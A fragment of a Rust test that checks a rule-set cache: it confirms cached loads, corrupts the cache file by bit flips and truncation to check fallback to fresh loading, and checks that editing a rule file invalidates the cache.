    let answers = |set: &RuleSet| (names(set, b"a needle"), set.needs_md5(), set.not_in_windows().to_vec());
    let load = || RuleSet::load(&paths, false, Some(&cache)).unwrap();
    assert!(!load().0.from_cache());
    let (stored, again) = load();
    assert!(stored.from_cache());
    assert_eq!((answers(&stored), &again), (answers(&plain), &reports));
    let file = only_file(&cache);
    let whole = fs::read(&file).unwrap();
    // The version is the last byte of the file's first eight.
    let places = [0, 7, 8, 39, 40, 48, 60, whole.len() / 2, whole.len() - 1];
    let flipped = places.iter().map(|&at| {
        let mut bytes = whole.clone();
        bytes[at] ^= 1;
        bytes
    });
    let cut = [0, 7, 8, 40, 47, 48, whole.len() - 1].map(|n| whole[..n].to_vec());
    for damaged in flipped.chain(cut) {
        fs::write(&file, &damaged).unwrap();
        let (set, again) = load();
        assert!(!set.from_cache());
        assert_eq!((answers(&set), &again), (answers(&plain), &reports));
    }
    assert!(load().0.from_cache());
    fs::write(&paths[0], text.replace("needle", "other!")).unwrap();
    let (changed, _) = load();
    assert!(!changed.from_cache());
    assert_eq!(names(&changed, b"a needle"), ["a.yar:B"]);
    assert!(load().0.from_cache());
}
